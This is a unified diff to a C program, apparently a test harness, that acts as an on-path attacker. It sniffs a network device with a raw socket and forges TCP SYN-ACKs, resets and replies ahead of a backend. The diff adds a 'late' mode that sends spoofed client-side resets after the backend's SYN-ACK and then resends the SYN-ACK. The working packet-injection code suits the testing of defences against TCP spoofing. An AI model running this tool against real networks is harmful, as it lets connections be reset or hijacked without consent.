@@ -1,8 +1,10 @@
 /*
- * An on-path attacker that forges segments of a backend: spoof DEVICE PORT near|exact
+ * An on-path attacker that forges segments of a backend: spoof DEVICE PORT near|exact|late
  * It sees every frame of DEVICE and answers each SYN and each request to PORT before the backend does.
  *   near   segments that the kernel rejects: sequence numbers at many distances from the right one; some are forged as the client
  *   exact  one RST that the kernel accepts
+ *   late   when the backend has answered a SYN: RSTs as for a socket that knows no numbers of its peer, then the SYN-ACK again,
+ *          without TCP options, so that a filter can tell it from the first
  * Runs until stdin closes, and prints the number of forged segments.
  */
 #include <arpa/inet.h>
@@ -19,7 +21,7 @@
 
 enum { FIN = 1, SYN = 2, RST = 4, PSH = 8, ACK = 16 };
 
-static int wire, exact;
+static int wire, exact, late;
 static unsigned sent;
 static uint16_t port;
 
@@ -70,8 +72,9 @@ static void forge_as(int asker, const struct seen *s, uint32_t seq, uint32_t ack
 	unsigned n = strlen(payload), head = s->six ? 40 : 20, address = s->six ? 16 : 4, first = s->six ? 8 : 12;
 	uint8_t *ip = f + 14, *tcp = ip + head;
 
-	memcpy(f, s->frame + 6, 6);
-	memcpy(f + 6, s->frame, 6);
+	/* to where the client is */
+	memcpy(f, s->frame + (late ? 0 : 6), 6);
+	memcpy(f + 6, s->frame + (late ? 6 : 0), 6);
 	memcpy(f + 12, s->frame + 12, 2);
 	memcpy(ip, s->ip, head);
 	if (!asker) {
@@ -151,7 +154,17 @@ static void answer_request(const struct seen *s)
 	}
 }
 
-static void look(const uint8_t *frame, int length)
+static void follow_syn_ack(const struct seen *s)
+{
+	uint32_t seq = get32(s->tcp + 4), ack = get32(s->tcp + 8);
+
+	forge_as(1, s, 0, 0, RST, "");
+	forge_as(1, s, 0, ack - 1, RST | ACK, "");
+	usleep(100000);
+	forge_as(1, s, seq, ack, SYN | ACK, "");
+}
+
+static void look(const uint8_t *frame, int length, int by_backend)
 {
 	struct seen s = {.frame = frame, .ip = frame + 14};
 	unsigned type = frame[12] << 8 | frame[13], total;
@@ -162,11 +175,14 @@ static void look(const uint8_t *frame, int length)
 	if (s.ip[s.six ? 6 : 9] != 6)
 		return;
 	s.tcp = s.ip + (s.six ? 40 : (s.ip[0] & 15) * 4);
-	if ((s.tcp[2] << 8 | s.tcp[3]) != port)
+	if ((s.tcp[by_backend ? 0 : 2] << 8 | s.tcp[by_backend ? 1 : 3]) != port)
 		return;
 	total = s.six ? 40 + (s.ip[4] << 8 | s.ip[5]) : s.ip[2] << 8 | s.ip[3];
 	s.payload = total - (s.tcp - s.ip) - (s.tcp[12] >> 4) * 4;
-	if ((s.tcp[13] & (SYN | ACK)) == SYN)
+	if (by_backend) {
+		if (s.tcp[13] & SYN)
+			follow_syn_ack(&s);
+	} else if ((s.tcp[13] & (SYN | ACK)) == SYN)
 		answer_syn(&s);
 	else if (s.payload)
 		answer_request(&s);
@@ -183,6 +199,7 @@ int main(int argc, char **argv)
 	at.sll_ifindex = if_nametoindex(argv[1]);
 	port = atoi(argv[2]);
 	exact = !strcmp(argv[3], "exact");
+	late = !strcmp(argv[3], "late");
 	wire = p[1].fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
 	if (wire < 0 || bind(wire, (struct sockaddr *)&at, sizeof(at))) {
 		perror("socket");
@@ -200,8 +217,8 @@ int main(int argc, char **argv)
 		if (!p[1].revents)
 			continue;
 		n = recvfrom(wire, frame, sizeof(frame), 0, (struct sockaddr *)&from, &size);
-		if (n > 0 && from.sll_pkttype != PACKET_OUTGOING)
-			look(frame, n);
+		if (n > 0 && (from.sll_pkttype == PACKET_OUTGOING) == late)
+			look(frame, n, late);
 	}
 	printf("%u\n", sent);
 	return 0;
